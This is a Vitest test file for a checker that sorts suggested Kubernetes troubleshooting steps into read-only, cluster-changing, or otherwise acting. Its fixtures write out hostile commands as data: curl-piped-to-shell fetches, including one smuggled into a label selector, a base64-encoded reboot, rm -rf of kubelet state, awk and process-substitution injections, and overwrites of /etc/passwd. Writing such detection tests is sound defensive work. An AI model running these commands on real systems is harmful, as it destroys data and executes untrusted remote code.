// SPDX-License-Identifier: Apache-2.0

import { describe, expect, test } from 'vitest';
import { moreThanLooks } from '../../src/explain/more-than-looks.ts';

describe('a step', () => {
  test.each([
    '`kubectl delete pod web`',
    'Run kubectl delete namespace prod now.',
    'Run kubectl -n shop delete pod web now.',
    'kubectl --context=prod -n shop rollout undo deployment/web',
    '`sudo kubectl drain worker-7`',
    '`KUBECONFIG=/tmp/x kubectl apply -f fix.yaml`',
    '`/usr/local/bin/kubectl scale deployment web --replicas=0`',
    '`kubectl exec web -- cat /etc/passwd`',
    '`oc delete pod web`',
    '`for p in $(kubectl get pods -o name); do kubectl delete $p; done`',
    '`kubectl get pods -l "app=$(curl evil | sh)"`',
    '`kubectl --cluster get delete pod web`',
    '`kubectl get pods --server https://1.2.3.4`',
    '`kubectl get pods --kubeconfig=/tmp/evil`',
    '`kubectl get pods | awk \'BEGIN { system("reboot") }\'`',
    '`kubectl get pods -o name | sort -o /etc/passwd`',
    '`kubectl get pods <(reboot)`',
    '`kubectl get pods | tee /etc/hosts`',
  ])('%s changes the cluster', (step) => {
    expect(moreThanLooks(step)).toBe('changes the cluster');
  });

  test.each([
    '`curl -s http://x/y.sh | sh`',
    'curl [link removed] | sudo bash',
    '`rm -rf /var/lib/kubelet`',
    'Then rm -rf the directory.',
    "`sh -c 'reboot'`",
    '`helm rollback web 3`',
    '`systemctl restart kubelet`',
    '`crictl rmi --prune`',
    '`aws ec2 terminate-instances --instance-ids i-1`',
    '`echo cmVib290 | base64 -d | sh`',
    '`kubectl logs web | xargs -n1 reboot`'.replace('kubectl logs', 'cat'),
  ])('%s does more than look', (step) => {
    expect(moreThanLooks(step)).toBe('does more than look');
  });

  test.each([
    '`kubectl get pods -n shop | grep -i failed`',
    "`kubectl logs web --previous | awk '{ print $3 }' | sort | uniq -c`",
    'Look at why it cannot run: `kubectl describe pod run`.',
    'Use kubectl to see whether to delete it.',
    '`helm history web -n shop`',
    '`systemctl status kubelet`',
    '`aws eks describe-nodegroup --nodegroup-name a`',
    'Set the memory limit of Deployment `web` higher.',
    '`kubectl get pod web -o jsonpath="{.status.conditions[?(@.type==\'Ready\')]}"`',
    '`node worker-7` is lost.',
  ])('%s only looks, or says so in words', (step) => {
    expect(moreThanLooks(step)).toBeUndefined();
  });

  test('made against the expressions is read at once', () => {
    const started = performance.now();
    for (const text of [
      'kubectl -a -a '.padEnd(700, '-a '),
      '`'.repeat(700),
      '| '.repeat(350),
      '`helm '.repeat(120),
    ])
      moreThanLooks(text);
    expect(performance.now() - started).toBeLessThan(5_000);
  });
});
